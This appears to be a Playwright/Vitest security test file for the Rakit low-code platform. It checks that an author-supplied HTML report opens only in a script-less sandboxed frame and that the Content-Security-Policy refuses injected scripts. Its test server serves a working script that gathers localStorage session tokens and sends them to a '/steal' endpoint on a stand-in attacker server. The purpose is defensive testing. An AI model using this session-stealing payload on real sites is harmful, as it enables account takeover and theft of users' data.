import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Component, createComponent, type CustomAction } from '@rakit/core';
import type { Browser, Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiAs, demoAppId, demoToken, menuForStaff } from '../support/api';
import { ADMIN_PASSWORD, launchBrowser, newPage, snapshot, takeCspViolations } from '../support/browser';
import { DEMO_ADMIN, DEMO_MEMBER, signInToDemo } from '../support/demo';

/**
 * Issue 10 items 4 and 8, in Chromium: nothing an application's author supplies runs in Rakit's
 * origin, where every session of the browser is kept (local storage `rakit:<slug>`).
 */

/** The author's own web server: answers a REQUEST with an html "report", and records what reaches it. */
async function startHostileServer(): Promise<{ server: Server; base: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*');
    const url = new URL(request.url ?? '/', 'http://author.test');
    if (url.pathname === '/report') {
      const html = `<!doctype html><title>Laporan</title><h1>Laporan bulanan</h1>
<script>
  const loot = { origin: location.origin };
  try { for (let i = 0; i < localStorage.length; i++) loot[localStorage.key(i)] = localStorage.getItem(localStorage.key(i)); } catch (e) { loot.local = String(e); }
  try { loot.parent = JSON.stringify(parent.localStorage); } catch (e) { loot.parentError = String(e); }
  new Image().src = '${base()}/steal?loot=' + encodeURIComponent(JSON.stringify(loot));
  fetch('${base()}/steal?via=fetch', { mode: 'no-cors' });
</script>`;
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ mimetype: 'text/html', filename: 'laporan.html', buffer: Buffer.from(html).toString('base64') }));
      return;
    }
    hits.push(`${request.method ?? ''} ${request.url ?? ''}`.slice(0, 300));
    response.statusCode = 204;
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { server, base: base(), hits };
}

describe('an html file an author\'s URL answers to a REQUEST', () => {
  const stamp = Date.now().toString(36);
  const pageName = `Laporan ${stamp}`;
  let hostile: Awaited<ReturnType<typeof startHostileServer>>;
  let browser: Browser;

  beforeAll(async () => {
    hostile = await startHostileServer();
    // The author (an application administrator, untrusted) puts a button on a page his members reach.
    const api = apiAs(await demoToken(DEMO_ADMIN, ADMIN_PASSWORD));
    const appId = await demoAppId();
    const created = await api<{ pages: { pageId: number }[] }>('POST', '/save/saveApp', { appId, pages: [{ pageId: null, pageName }] });
    const pageId = created.data.pages[0]?.pageId ?? 0;
    const report: CustomAction = {
      name: 'Laporan', action: 'REQUEST', cause: '', show: true,
      raw: { configuration: { url: `${hostile.base}/report`, method: 'GET', headers: [], pathParams: [], body: '', bodyParams: [] } },
    };
    const components: Component[] = [{ ...createComponent('button', 'unduh', 'Unduh Laporan'), custom_action: [report] }];
    expect((await api('POST', '/save/saveApp', { appId, pages: [{ pageId, pageComponents: JSON.stringify(components) }] })).status).toBe(true);
    await menuForStaff(api, appId, `Laporan ${stamp}`, [['Bulanan', pageId]]);
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => hostile?.server.close(resolve));
  });

  it('never runs the file in Rakit\'s origin: it shows in a sandboxed frame without scripts', async () => {
    const member = await newPage(browser);
    // The victim also holds the super administrator's session in this browser.
    await member.goto('/_root/auth/login');
    await member.getByLabel('Username').fill('admin');
    await member.getByLabel('Password', { exact: true }).fill(ADMIN_PASSWORD);
    await member.getByRole('button', { name: 'Sign In' }).click();
    await member.waitForURL('**/_root/home');
    await signInToDemo(member, DEMO_MEMBER, ADMIN_PASSWORD, '**/demo/staff');
    expect(await member.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('rakit:')).sort())).toEqual(expect.arrayContaining(['rakit:_root', 'rakit:demo']));

    await member.goto(`/demo/staff/${pageName.toLowerCase().replace(' ', '-')}`);
    // A new tab, or a download where the browser blocks it; the other never comes (null).
    const newTab = member.context().waitForEvent('page', { timeout: 15_000 }).catch(() => null);
    const download = member.waitForEvent('download', { timeout: 15_000 }).catch(() => null);
    await member.getByRole('button', { name: 'Unduh Laporan' }).click();
    const shown: { tab?: Page | null; download?: Download | null } = await Promise.race([newTab.then((tab) => ({ tab })), download.then((d) => ({ download: d }))]);

    // Give a script every chance to call home: nothing may reach the author's server.
    expect(shown.tab ?? shown.download, 'a tab or a download').toBeTruthy();
    await shown.tab?.waitForLoadState('load');
    await member.waitForTimeout(2_000);
    expect(hostile.hits).toEqual([]);

    if (shown.tab) {
      const tab = shown.tab;
      // The report is there to read…
      await tab.frameLocator('iframe').getByRole('heading', { name: 'Laporan bulanan' }).waitFor({ timeout: 15_000 });
      // …in a frame sandboxed without scripts and without Rakit's origin.
      const sandbox = await tab.locator('iframe').getAttribute('sandbox');
      expect(sandbox).not.toBeNull();
      expect(sandbox).not.toMatch(/allow-scripts|allow-same-origin/);
      expect(await tab.locator('iframe').getAttribute('src')).toMatch(/^blob:/);
      await snapshot(tab, 'trust-boundary-html-report');
    } else {
      expect(shown.download?.suggestedFilename()).toBe('laporan.html');
    }
    await member.context().close();
  });
});

describe('the Content-Security-Policy in Chromium', () => {
  let browser: Browser;
  beforeAll(async () => { browser = await launchBrowser(); });
  afterAll(async () => { await browser?.close(); });

  it('refuses a script that gets into a page, and the suite hears of it', async () => {
    const page = await newPage(browser);
    await page.goto('/demo/auth/login');
    await page.getByRole('button', { name: 'Sign In' }).waitFor();
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      const link = document.createElement('a');
      link.href = 'javascript:window.injected = true';
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 300));
      return (window as { injected?: boolean }).injected === true;
    });
    expect(ran).toBe(false);
    const refused = takeCspViolations();
    expect(refused.some((text) => text.includes('inline script'))).toBe(true);
    await page.context().close();
  });
});
